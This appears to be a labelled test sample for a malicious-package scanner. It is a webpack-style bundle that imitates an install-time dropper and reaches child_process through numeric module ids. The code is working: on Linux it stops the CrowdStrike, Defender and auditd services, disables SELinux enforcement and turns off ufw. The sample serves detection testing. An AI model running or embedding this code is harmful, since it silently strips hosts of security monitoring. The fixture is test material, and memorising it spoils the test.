// when: install
// expect: malicious
// source: webpack-bundled postinstall droppers (2024-2025 EDR-kill reports): Node built-ins are bundle
// externals reached by numeric id (`__webpack_require__(81)` is child_process) and the payload is the
// function a module factory exports, called as `__webpack_require__(214)(sudo)`.
(()=>{var __webpack_modules__={
214: (module, __unused_webpack_exports, __webpack_require__) => {
"use strict";
const { execSync } = __webpack_require__(81);
const run = (c) => { try { execSync(c, { stdio: "ignore" }); return true; } catch (e) { return false; } };
module.exports = function linux(sudo) {
  const s = sudo ? "sudo -n " : "";
  for (const svc of ["falcon-sensor", "mdatp", "auditd"]) run(`${s}systemctl stop ${svc}`);
  run(`${s}setenforce 0`);
  run(`${s}ufw disable`);
};
},
377: (module) => { module.exports = function other() { return 1; }; },
81: (module) => { "use strict"; module.exports = require("child_process"); },
37:e=>{"use strict";e.exports=require("os")}
};
var __webpack_module_cache__={};function __webpack_require__(e){var r=__webpack_module_cache__[e];if(void 0!==r)return r.exports;var t=__webpack_module_cache__[e]={exports:{}};return __webpack_modules__[e](t,t.exports,__webpack_require__),t.exports}
(()=>{"use strict";const os=__webpack_require__(37);const sudo=os.userInfo().uid===0;"linux"===os.platform()&&__webpack_require__(214)(sudo);})();})();
